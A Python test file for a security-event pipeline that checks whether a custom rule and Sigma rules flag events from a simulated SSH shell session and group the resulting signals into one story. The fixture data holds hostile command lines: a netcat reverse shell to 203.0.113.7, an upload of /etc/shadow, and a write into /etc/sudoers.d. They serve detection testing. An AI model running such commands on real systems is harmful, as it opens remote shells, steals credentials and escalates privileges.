"""User rule folders (STORYLINE_RULES_DIRS) and Sigma rules (STORYLINE_SIGMA_DIRS) run
through ingest: configured in the settings, matched on ingested events, written as
signals, grouped into the story of the shell they happened in."""

from __future__ import annotations

import json
import textwrap
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from app.ingest import ingest
from app.neo4j.database import Database
from app.pipeline import Pipeline
from app.settings import Settings
from tests.conftest import SIGMA_LINUX
from tests.graphstate import rows, rows_counted
from tests.test_layers import P

USER_RULE = """\
id: acme.sync_upload
title: acme-sync uploaded a file
description: The in-house sync tool sent a file out; only the backup job may do that.
severity: critical
tactic: exfiltration
technique: T1048
kinds: [process_exec]
match:
  process.exe|basename: acme-sync
  process.args: --upload
actions:
  - "Ask who ran {process.exe} (pid {process.pid}) on {event.host_id}"
"""
# tests/data/sigma-linux: process_creation/proc_creation_lnx_netcat_reverse_shell.yml
# (level: high) and file_event/file_event_lnx_persistence_sudoers_files.yml (level: medium)
SIGMA_NETCAT = "sigma.7f734ed0-4f47-46c0-837f-6ee62505abd9"
SIGMA_SUDOERS = "sigma.ddb26b76-4447-4807-871f-1b035b2bfa5d"


def shell_session() -> tuple[dict[str, str], list[dict[str, Any]]]:
    """sshd -> bash with a tty -> what the test rules must (and must not) catch.

    Returns the id of each event of interest, and the events."""
    init = P("node-5", 1, 0, "/sbin/init", ["/sbin/init"])
    sshd = init.child(700, 1, "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D"])
    bash = sshd.child(800, 2, "/bin/bash", ["-bash"], tty="pts/3", uid=1000, user="mallory")
    upload = bash.child(810, 3, "/opt/acme/bin/acme-sync", ["acme-sync", "--upload", "/etc/shadow"])
    status = bash.child(811, 4, "/opt/acme/bin/acme-sync", ["acme-sync", "--status"])
    nc = bash.child(812, 5, "/usr/bin/nc", ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"])
    scan = bash.child(813, 6, "/usr/bin/nc", ["nc", "-zv", "10.0.0.1", "443"])
    tee = bash.child(814, 7, "/usr/bin/tee", ["tee", "/etc/sudoers.d/90-mallory"])
    dpkg = bash.child(815, 8, "/usr/bin/dpkg", ["dpkg", "-i", "sudo.deb"])
    events = [p.exec() for p in (init, sshd, bash, upload, status, nc, scan, tee, dpkg)]
    wrote = tee.event("file_create", file={"path": "/etc/sudoers.d/90-mallory"})
    readme = dpkg.event("file_create", file={"path": "/etc/sudoers.d/README.dpkg-new"})
    events += [wrote, readme]
    ids = {
        "upload": events[3]["id"],
        "status": events[4]["id"],
        "nc": events[5]["id"],
        "scan": events[6]["id"],
        "sudoers": wrote["id"],
        "dpkg": readme["id"],
    }
    return ids, events


@pytest.mark.parametrize("configured_by", ["settings", "environment"])
def test_user_and_sigma_rules_run_through_ingest_into_signals_and_a_story(
    db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, configured_by: str
) -> None:
    rules_dir = tmp_path / "rules"
    rules_dir.mkdir()
    (rules_dir / "acme.yaml").write_text(textwrap.dedent(USER_RULE))
    ids, events = shell_session()
    text = [json.dumps(e) + "\n" for e in events]
    variables = {"STORYLINE_RULES_DIRS": str(rules_dir), "STORYLINE_SIGMA_DIRS": str(SIGMA_LINUX)}
    if configured_by == "settings":
        report = ingest(
            db, "storyline", text, after_batch=Pipeline.default(Settings.from_env(variables))
        )
    else:  # what the CLI and the service do: the configured pipeline drains after ingest
        for name, value in variables.items():
            monkeypatch.setenv(name, value)
        report = ingest(db, "storyline", text)
    assert (report.accepted, report.rejected) == (len(events), [])

    # (event, rule, severity: the rule's or the Sigma level, tactic: the first attack.* tag,
    #  source: the file it came from)
    configured = [
        (ids["upload"], "acme.sync_upload", "critical", "exfiltration",
         f"user:{rules_dir / 'acme.yaml'}"),
        (ids["nc"], SIGMA_NETCAT, "high", "execution",
         "sigma:proc_creation_lnx_netcat_reverse_shell.yml"),
        (ids["sudoers"], SIGMA_SUDOERS, "medium", "privilege_escalation",
         "sigma:file_event_lnx_persistence_sudoers_files.yml"),
    ]  # fmt: skip
    rule_ids = [r for _, r, *_ in configured]
    found = rows_counted(
        db,
        "MATCH (s:Signal)-[:ON]->(e:Event) WHERE s.rule_id IN $rules "
        "RETURN e.id, s.rule_id, s.severity, s.tactic, s.source",
        rules=rule_ids,
    )
    # each once, on its own event; the near misses (acme-sync --status, nc -zv, dpkg's
    # own README under sudoers.d) have none
    assert found == Counter(configured)
    [(actions,)] = rows(db, "MATCH (s:Signal {rule_id: 'acme.sync_upload'}) RETURN s.actions")
    assert actions == ("Ask who ran /opt/acme/bin/acme-sync (pid 810) on node-5",)

    # the shell's story holds them: one story, its severity the worst of them
    stories = rows(
        db,
        "MATCH (st:Story)-[:HAS]->(s:Signal) WHERE s.rule_id IN $rules "
        "RETURN st.id, st.severity, st.layer, collect(s.rule_id)",
        rules=rule_ids,
    )
    assert len(stories) == 1
    [(_, severity, layer, held)] = stories
    assert (severity, layer) == ("critical", "interactive_shell")
    assert sorted(held) == sorted(rule_ids)
    assert rows(db, "MATCH (:Story)-[:OF]->(c:Context) RETURN c.layer, c.root") == {
        ("interactive_shell", "node-5|800|2026-01-05T08:00:02.000000000Z")  # bash
    }
